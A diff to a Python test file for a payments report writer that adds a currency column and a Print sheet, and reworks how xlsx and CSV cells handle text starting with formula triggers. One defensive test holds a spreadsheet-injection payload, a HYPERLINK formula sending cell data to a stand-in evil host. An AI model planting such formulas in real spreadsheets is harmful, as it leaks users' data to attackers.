@@ -8,6 +8,7 @@ import subprocess
 import sys
 import tempfile
 import uuid
+import zipfile
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta, timezone
 from decimal import Decimal
@@ -141,13 +142,14 @@ def test_csv_header_is_the_contract_columns_then_extras(tmp_path: Path) -> None:
 
 
 def test_result_columns_match_the_contract() -> None:
-    """RESULT_COLUMNS is exactly the contract's list."""
+    """RESULT_COLUMNS is the contract's list in its order, then the currency column added
+    after it (readers by position keep theirs)."""
     contract = (
         "row, card_id, amount, reference, status, fee, total_charged, card_balance_before, "
         "card_balance_after, wallet_balance_after, transaction_id, invoice_id, attempts, error, "
         "started_at, finished_at"
     )
-    assert tuple(contract.split(", ")) == RESULT_COLUMNS
+    assert (*contract.split(", "), "currency") == RESULT_COLUMNS
 
 
 def test_xlsx_has_one_row_per_record_in_job_order(tmp_path: Path) -> None:
@@ -534,8 +536,11 @@ def test_real_provider_run_has_no_sandbox_line(tmp_path: Path, suffix: str) -> N
 
 
 @pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
-def test_xlsx_text_starting_like_a_formula_is_quoted(tmp_path: Path, lead: str) -> None:
-    """Text starting with a formula trigger is stored as text with a leading quote."""
+def test_xlsx_text_starting_like_a_formula_is_a_string_cell_as_it_is(
+    tmp_path: Path, lead: str
+) -> None:
+    """Text starting with a formula trigger is an explicit string cell holding exactly the
+    job's text: no guard quote, and no formula in the sheet's XML."""
     text = f"{lead}1+2"
     info = RunInfo("k", "uncash", "job.csv", extra_columns=("note",))
     rec = record(
@@ -548,10 +553,19 @@ def test_xlsx_text_starting_like_a_formula_is_quoted(tmp_path: Path, lead: str) 
     )
     write_report(tmp_path / "r.xlsx", stream(rec), info)
     (row,) = xlsx_cells(tmp_path / "r.xlsx")
-    # Reading XML turns a raw carriage return into a line feed; the guard is what matters.
-    stored = "'" + text.replace("\r", "\n")
+    # Reading XML turns a raw carriage return into a line feed.
+    stored = text.replace("\r", "\n")
     for name in ("card_id", "reference", "transaction_id", "invoice_id", "error", "note"):
         assert (row[name].value, row[name].data_type) == (stored, "s"), name
+    for sheet in ("sheet1.xml", "sheet2.xml", "sheet3.xml"):
+        xml = sheet_xml(tmp_path / "r.xlsx", sheet)
+        assert "<f>" not in xml, sheet
+        assert "'" + text[0] not in xml, sheet
+
+
+def sheet_xml(path: Path, name: str) -> str:
+    with zipfile.ZipFile(path) as archive:
+        return archive.read(f"xl/worksheets/{name}").decode()
 
 
 @pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
@@ -574,25 +588,32 @@ def test_csv_text_starting_like_a_formula_is_quoted(tmp_path: Path, lead: str) -
 
 
 def test_hyperlink_reference_comes_back_as_literal_text(tmp_path: Path) -> None:
-    """A reference of =HYPERLINK(...) is quoted text in the sheet, not a formula."""
+    """A reference of =HYPERLINK(...) is the same text in the sheet, not a formula."""
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     write_report(tmp_path / "r.xlsx", stream(record(reference=evil)), INFO)
     (row,) = xlsx_cells(tmp_path / "r.xlsx")
     assert row["reference"].data_type != "f"
-    assert row["reference"].value == "'" + evil
+    assert row["reference"].value == evil
 
 
-def test_summary_text_is_neutralised(tmp_path: Path) -> None:
-    """Strings in the Summary (job file, notes) get the same formula guard."""
+def test_summary_text_is_guarded_in_csv_and_exact_in_xlsx(tmp_path: Path) -> None:
+    """Strings in the Summary (job file, notes) get the CSV formula guard; the xlsx holds them
+    as they are, in string cells."""
     info = RunInfo("=run", "uncash", "@job.csv", notes=(("-note", "+value"),))
     write_report(tmp_path / "r.xlsx", stream(record()), info)
     write_report(tmp_path / "r.csv", stream(record()), info)
-    for summary in (xlsx_summary(tmp_path / "r.xlsx"), csv_summary(tmp_path / "r.csv")):
-        assert (summary["run key"], summary["job file"], summary["'-note"]) == (
-            "'=run",
-            "'@job.csv",
-            "'+value",
-        )
+    in_csv = csv_summary(tmp_path / "r.csv")
+    assert (in_csv["run key"], in_csv["job file"], in_csv["'-note"]) == (
+        "'=run",
+        "'@job.csv",
+        "'+value",
+    )
+    in_xlsx = xlsx_summary(tmp_path / "r.xlsx")
+    assert (in_xlsx["run key"], in_xlsx["job file"], in_xlsx["-note"]) == (
+        "=run",
+        "@job.csv",
+        "+value",
+    )
 
 
 def test_excel_error_words_stay_text(tmp_path: Path) -> None:
@@ -618,7 +639,7 @@ def test_results_header_is_frozen_bold_and_filtered(tmp_path: Path) -> None:
     sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"]
     assert sheet.freeze_panes == "A2"
     assert all(cell.font.b for cell in sheet[1])
-    assert sheet.auto_filter.ref == "A1:P3"
+    assert sheet.auto_filter.ref == "A1:Q3"
 
 
 def test_results_columns_have_widths(tmp_path: Path) -> None:
@@ -640,7 +661,7 @@ def test_results_columns_are_wide_enough_for_their_values(tmp_path: Path) -> Non
     assert min(width[name] for name in MONEY_FIELDS) >= len("9,999,999.99") + 1
     assert min(width["started_at"], width["finished_at"]) >= len("2026-11-01 09:30:15") + 1
     assert width["status"] >= len("not_attempted") + 1
-    assert dims["Q"].width >= 20  # department
+    assert dims["R"].width >= 20  # department
 
 
 def test_results_header_is_styled_and_numeric_headers_sit_right(tmp_path: Path) -> None:
@@ -656,19 +677,23 @@ def test_results_header_is_styled_and_numeric_headers_sit_right(tmp_path: Path) 
     assert right == {"row", "attempts", "started_at", "finished_at", *MONEY_FIELDS}
 
 
-def test_results_print_on_landscape_pages_one_wide_with_the_header(tmp_path: Path) -> None:
-    """Printed, Results is landscape, fit to one page wide (any number tall), grid lines on,
-    its header row repeated on every page; the Summary fits one portrait page wide."""
+def test_results_print_at_full_size_with_header_and_row_number_repeated(tmp_path: Path) -> None:
+    """Printed, Results is landscape at 100 % (never squeezed to one page wide), grid lines on,
+    its header row and row numbers repeated on every page; the Summary fits one portrait
+    page wide."""
     write_report(tmp_path / "r.xlsx", stream(record()), INFO)
     workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
     results, summary = workbook["Results"], workbook["Summary"]
+    assert not results.sheet_properties.pageSetUpPr.fitToPage
+    assert results.page_setup.scale == 100
+    assert summary.sheet_properties.pageSetUpPr.fitToPage
+    assert (summary.page_setup.fitToWidth, summary.page_setup.fitToHeight) == (1, 0)
     for sheet in (results, summary):
-        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
-        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0), sheet.title
         assert sheet.freeze_panes == "A2", sheet.title
     assert results.page_setup.orientation == "landscape"
     assert summary.page_setup.orientation == "portrait"
     assert results.print_title_rows == "$1:$1"
+    assert results.print_title_cols == "$A:$A"
     assert results.print_options.gridLines
 
 
@@ -708,9 +733,10 @@ def test_long_error_text_wraps_in_a_taller_row(tmp_path: Path) -> None:
 
 
 def test_sheets_are_summary_then_results(tmp_path: Path) -> None:
-    """The workbook opens on the Summary, followed by Results."""
+    """The workbook opens on the Summary, followed by Results, then the Print layout."""
     write_report(tmp_path / "r.xlsx", stream(record()), INFO)
-    assert openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames == ["Summary", "Results"]
+    sheets = openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
+    assert sheets == ["Summary", "Results", "Print"]
 
 
 def test_rows_beyond_the_sheet_limit_continue_on_more_sheets(
@@ -720,7 +746,7 @@ def test_rows_beyond_the_sheet_limit_continue_on_more_sheets(
     monkeypatch.setattr(report_xlsx, "MAX_SHEET_ROWS", 3)
     write_report(tmp_path / "r.xlsx", stream(*(record(n) for n in range(1, 6))), INFO)
     workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
-    assert workbook.sheetnames == ["Summary", "Results", "Results 2", "Results 3"]
+    assert workbook.sheetnames == ["Summary", "Results", "Results 2", "Results 3", "Print"]
     found = []
     for name in ("Results", "Results 2", "Results 3"):
         rows = xlsx_rows(tmp_path / "r.xlsx", name)
@@ -746,7 +772,8 @@ def test_a_full_sheet_opens_no_empty_next_sheet(
     """Rows that exactly fill a sheet leave no empty `Results 2` and no sheet count line."""
     monkeypatch.setattr(report_xlsx, "MAX_SHEET_ROWS", 3)
     write_report(tmp_path / "r.xlsx", stream(record(1), record(2)), INFO)
-    assert openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames == ["Summary", "Results"]
+    sheets = openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
+    assert sheets == ["Summary", "Results", "Print"]
     assert "Results sheets" not in xlsx_summary(tmp_path / "r.xlsx")
 
 
